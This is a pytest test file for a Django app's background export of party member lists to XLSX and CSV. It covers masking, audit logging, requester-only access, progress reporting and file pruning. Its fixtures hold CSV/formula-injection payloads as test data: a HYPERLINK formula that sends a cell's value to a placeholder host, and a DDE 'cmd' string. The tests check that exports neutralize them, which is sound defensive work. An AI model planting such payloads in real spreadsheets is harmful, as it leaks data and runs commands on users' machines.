"""Large exports through the task worker (issue 14): the member list of a scope is written to a
file by `export_job_run` (server-side cursor, write-only XLSX / CSV), with progress; the file is
its requester's only, equals the synchronous export of the same filters, and is pruned after
DANGBO_EXPORT_TTL hours."""

from __future__ import annotations

import io
import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from openpyxl import load_workbook

from dangbo.audit.models import AuditEntry
from dangbo.exports import tasks
from dangbo.exports.models import ExportJob
from dangbo.members.services import ProfileInput, member_admit

pytestmark = [pytest.mark.django_db, pytest.mark.urls("dangbo.exports.tests.urls")]
PURPOSE = "Rà soát hồ sơ đảng viên quý I"
HOSTILE = '=HYPERLINK("http://x.example/?q="&B4,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def export_dir(settings, tmp_path):
    settings.DANGBO_EXPORT_DIR = tmp_path / "exports"
    return settings.DANGBO_EXPORT_DIR


@pytest.fixture
def people(tree, system_user):
    def admit(cell, name, born, cid, **extra):
        return member_admit(
            actor=system_user,
            cell=cell,
            decided_on=date(2020, 3, 2),
            ceremony_on=date(2020, 3, 16),
            profile=ProfileInput(
                full_name=name, birth_date=date(born, 4, 5), birth_year=born, sex="F", citizen_id=cid, **extra
            ),
        )

    return [
        admit(tree["cell_a1"], "Lê Thị Hoa", 1988, "001188000111"),
        admit(tree["cell_b1"], "Phạm Thị Lan", 1990, "001190000222"),
        admit(tree["cell_a2"], HOSTILE, 1985, "001185000333", hometown="-2+3+cmd|' /C calc'!A0"),
    ]


def post(client, url="/xuat/dang-vien/", fmt="xlsx"):
    return client.post(url, {"muc_dich": PURPOSE, "dinh_dang": fmt})


def through_job(client, settings, url="/xuat/dang-vien/", fmt="xlsx"):
    settings.DANGBO_EXPORT_SYNC_MAX_ROWS = 0
    response = post(client, url, fmt)
    assert response.status_code == 302
    job = ExportJob.objects.latest("id")
    assert response["Location"] == f"/xuat/tep/{job.pk}/"
    return job


def xlsx_cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.number_format, c.data_type) for c in row] for row in ws.iter_rows()], ws.freeze_panes


def without_time(text: str) -> str:
    return re.sub(r"lúc \d\d:\d\d ngày", "lúc … ngày", text)


@pytest.mark.parametrize("who", ["officer", "leader", "commune_officer"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_job_file_equals_the_synchronous_export_of_the_same_filters(client, settings, people, request, who, fmt):
    """Same rows, order, masking (leader: masked IDs), formula neutralization and watermark."""
    client.force_login(request.getfixturevalue(who))
    url = "/xuat/dang-vien/?ngay=01/06/2024&status=all"
    sync = post(client, url, fmt)
    assert sync.status_code == 200 and sync.get("Content-Disposition", "").startswith("attachment")
    job = through_job(client, settings, url, fmt)
    job.refresh_from_db()
    assert job.status == ExportJob.State.DONE and job.total_rows == job.processed_rows
    download = client.get(f"/xuat/tep/{job.pk}/tai/")
    assert download.status_code == 200
    assert download["Content-Type"] == sync["Content-Type"]
    body = b"".join(download.streaming_content)
    if fmt == "csv":
        assert without_time(body.decode("utf-8")) == without_time(sync.content.decode("utf-8"))
        assert body.startswith(b"\xef\xbb\xbf")
    else:
        (job_rows, job_panes), (sync_rows, sync_panes) = xlsx_cells(body), xlsx_cells(sync.content)
        assert job_panes == sync_panes == "A4"
        assert without_time(job_rows[0][0][0]) == without_time(sync_rows[0][0][0])
        assert job_rows[1:] == sync_rows[1:]
        assert not [c for r in job_rows for c in r if c[2] == "f"]  # no formula cell
    expected = {"officer": 3, "leader": 3, "commune_officer": 2}[who]
    assert job.processed_rows == expected


def test_masking_and_neutralization_in_the_job_file(client, settings, people, leader):
    client.force_login(leader)
    job = through_job(client, settings)
    ws = load_workbook(Path(ExportJob.objects.get(pk=job.pk).file_path)).active
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4)]
    assert sorted(r[8] for r in rows) == ["001******111", "001******222", "001******333"]
    assert "'" + HOSTILE in [r[1] for r in rows]
    assert ws.cell(row=1, column=1).value.startswith("Tài liệu xuất từ Đảng bộ số — người xuất: lanh_dao")


def test_small_lists_stay_synchronous_and_large_ones_go_through_a_job(client, settings, people, officer):
    client.force_login(officer)
    settings.DANGBO_EXPORT_SYNC_MAX_ROWS = 3
    assert post(client).status_code == 200
    assert not ExportJob.objects.exists()
    settings.DANGBO_EXPORT_SYNC_MAX_ROWS = 2
    assert post(client).status_code == 302
    assert ExportJob.objects.count() == 1


def test_the_request_and_each_download_are_audited(client, settings, people, officer):
    client.force_login(officer)
    job = through_job(client, settings, fmt="csv")
    request_entry = AuditEntry.objects.get(action="export.members.list")
    assert request_entry.after["purpose"] == PURPOSE
    assert request_entry.after["filters"]["job"] == job.pk and request_entry.after["filters"]["format"] == "csv"
    assert request_entry.object_type == "exports.exportjob"
    assert not AuditEntry.objects.filter(action="export.members.list.download").exists()
    client.get(f"/xuat/tep/{job.pk}/tai/")
    client.get(f"/xuat/tep/{job.pk}/tai/")
    downloads = AuditEntry.objects.filter(action="export.members.list.download")
    assert downloads.count() == 2
    assert {e.after["rows"] for e in downloads} == {3} and {e.after["purpose"] for e in downloads} == {PURPOSE}


@pytest.mark.parametrize("other", ["officer", "outsider", "leader", "admin_user"])
def test_only_the_requester_sees_and_downloads_the_job(client, settings, people, commune_officer, request, other):
    client.force_login(commune_officer)
    job = through_job(client, settings)
    assert client.get(f"/xuat/tep/{job.pk}/").status_code == 200
    assert client.get(f"/xuat/tep/{job.pk}/tai/").status_code == 200
    client.force_login(request.getfixturevalue(other))  # even an officer above, or an administrator
    before = AuditEntry.objects.count()
    assert client.get(f"/xuat/tep/{job.pk}/").status_code == 404
    assert client.get(f"/xuat/tep/{job.pk}/tai/").status_code == 404
    assert client.get(f"/xuat/tep/{job.pk + 1000}/").status_code == 404
    assert AuditEntry.objects.count() == before


def test_anonymous_is_sent_to_login(client, settings, people, officer):
    client.force_login(officer)
    job = through_job(client, settings)
    client.logout()
    for url in (f"/xuat/tep/{job.pk}/", f"/xuat/tep/{job.pk}/tai/"):
        assert client.get(url).status_code == 302


# --- the database queue: the job waits, the page polls, the worker writes with progress --------


@pytest.fixture
def db_queue(settings, monkeypatch):
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    monkeypatch.setattr("django_tasks_db.management.commands.db_worker.close_old_connections", lambda: None)


def run_worker() -> None:
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", "--interval", "0", verbosity=0)


def test_the_job_waits_in_the_queue_and_the_page_polls_until_the_worker_writes_it(
    client, settings, people, officer, db_queue
):
    client.force_login(officer)
    job = through_job(client, settings)
    job.refresh_from_db()
    assert job.status == ExportJob.State.QUEUED and not job.file_path
    assert DBTaskResult.objects.get().task_path == "dangbo.exports.tasks.export_job_run"
    page = client.get(f"/xuat/tep/{job.pk}/").content.decode()
    assert "Chờ xuất" in page and 'hx-trigger="every 1s"' in page and "/tai/" not in page
    assert client.get(f"/xuat/tep/{job.pk}/tai/").status_code == 404  # nothing to download yet
    run_worker()
    job.refresh_from_db()
    assert job.status == ExportJob.State.DONE and job.processed_rows == job.total_rows == 3
    partial = client.get(f"/xuat/tep/{job.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in partial and f"/xuat/tep/{job.pk}/tai/" in partial
    assert "<html" not in partial
    assert client.get(f"/xuat/tep/{job.pk}/tai/").status_code == 200


def test_progress_is_recorded_every_n_rows(settings, people, officer, monkeypatch):
    settings.DANGBO_EXPORT_PROGRESS_EVERY = 1
    job = ExportJob.objects.create(
        requester=officer,
        purpose=PURPOSE,
        fmt="csv",
        watermark="w",
        exporter="x",
        filters={"at": "2024-06-01", "status": "all"},
    )
    seen = []
    real = tasks.write_file

    def spy(job_, sheet, target):
        def rows():
            for row in sheet.rows:
                seen.append(ExportJob.objects.get(pk=job_.pk).processed_rows)
                yield row
            seen.append(ExportJob.objects.get(pk=job_.pk).processed_rows)

        real(job_, type(sheet)(sheet.title, sheet.columns, rows()), target)

    monkeypatch.setattr(tasks, "write_file", spy)
    done = tasks.run_job(job.pk)
    assert seen == [0, 1, 2, 3]
    assert done.status == ExportJob.State.DONE and done.total_rows == 3 and done.processed_rows == 3
    assert tasks.run_job(job.pk) is None  # claimed once: a second run does nothing


def test_the_running_page_shows_the_progress(client, officer):
    job = ExportJob.objects.create(
        requester=officer,
        purpose=PURPOSE,
        status=ExportJob.State.RUNNING,
        total_rows=51602,
        processed_rows=25000,
        filters={"at": "2024-06-01"},
    )
    client.force_login(officer)
    page = client.get(f"/xuat/tep/{job.pk}/").content.decode()
    assert "Đã ghi 25.000 / 51.602 dòng" in page and 'value="48"' in page


def test_a_failing_job_is_recorded_failed_without_a_file(settings, people, officer, monkeypatch, export_dir):
    job = ExportJob.objects.create(requester=officer, purpose=PURPOSE, filters={"at": "2024-06-01"})

    def boom(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(tasks, "write_file", boom)
    done = tasks.run_job(job.pk)
    assert done.status == ExportJob.State.FAILED and "RuntimeError" in done.error and not done.file_path
    assert not list(export_dir.glob("*"))


# --- cleanup ------------------------------------------------------------------------------------


def test_files_older_than_the_ttl_are_pruned(client, settings, people, officer, export_dir):
    settings.DANGBO_EXPORT_TTL = 24
    client.force_login(officer)
    old, recent = through_job(client, settings), through_job(client, settings)
    now = timezone.now()
    ExportJob.objects.filter(pk=old.pk).update(finished_at=now - timedelta(hours=25))
    old.refresh_from_db()
    old_file, recent_file = Path(old.file_path), Path(ExportJob.objects.get(pk=recent.pk).file_path)
    stray = export_dir / "abandoned.xlsx.part"
    stray.write_bytes(b"x")
    import os

    os.utime(stray, (now.timestamp() - 90000, now.timestamp() - 90000))
    assert tasks.export_files_prune(now=now) == 2
    assert not old_file.exists() and not stray.exists() and recent_file.exists()
    assert ExportJob.objects.get(pk=old.pk).file_path == ""
    assert client.get(f"/xuat/tep/{old.pk}/tai/").status_code == 404
    assert "hết hạn" in client.get(f"/xuat/tep/{old.pk}/").content.decode()
    assert client.get(f"/xuat/tep/{recent.pk}/tai/").status_code == 200


def test_the_prune_is_a_periodic_job(settings):
    from dangbo.jobs import periodic, schedule

    assert schedule.JOBS["exports.prune"] is periodic.exports_prune
    assert "exports.prune" in settings.DANGBO_PERIODIC
    settings.DANGBO_PERIODIC = {"exports.prune": 3600}
    assert schedule.tick() == ["exports.prune"]
    assert periodic.exports_prune.call() == 0


def test_the_form_lists_the_requesters_own_recent_jobs(client, settings, people, officer, commune_officer):
    client.force_login(officer)
    job = through_job(client, settings)
    page = client.get("/xuat/dang-vien/").content.decode()
    assert f'href="/xuat/tep/{job.pk}/"' in page and "Đã xuất xong" in page
    client.force_login(commune_officer)
    assert f"/xuat/tep/{job.pk}/" not in client.get("/xuat/dang-vien/").content.decode()
